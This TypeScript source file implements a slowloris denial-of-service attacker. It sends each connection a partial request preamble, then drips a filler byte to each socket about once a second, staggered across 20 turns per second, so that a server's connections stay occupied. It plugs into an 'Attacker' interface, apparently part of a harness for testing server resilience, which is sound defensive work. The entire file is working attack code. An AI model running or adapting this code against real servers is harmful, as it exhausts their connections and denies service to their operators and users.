import type { Socket } from 'node:net';
import type { Attacker } from '../attacker.js';

/** Each connection gets its byte once a second; they take their turns, so that thousands are not served at once. */
const TURNS_PER_SECOND = 20;

export const slowloris: Attacker = {
  async play(field) {
    const { preamble, opening, filler } = field.dialect;
    const turns = Array.from({ length: TURNS_PER_SECOND }, () => new Set<Socket>());
    let turn = 0;
    const timer = setInterval(() => {
      for (const socket of turns[turn]!) {
        if (field.open.has(socket)) field.send(socket, filler);
        else turns[turn]!.delete(socket);
      }
      turn = (turn + 1) % TURNS_PER_SECOND;
    }, 1000 / TURNS_PER_SECOND);
    try {
      await field.hold((socket, index) => {
        field.send(socket, Buffer.concat([preamble, opening]));
        turns[index % TURNS_PER_SECOND]!.add(socket);
      }, false);
    } finally {
      clearInterval(timer);
    }
  },
};
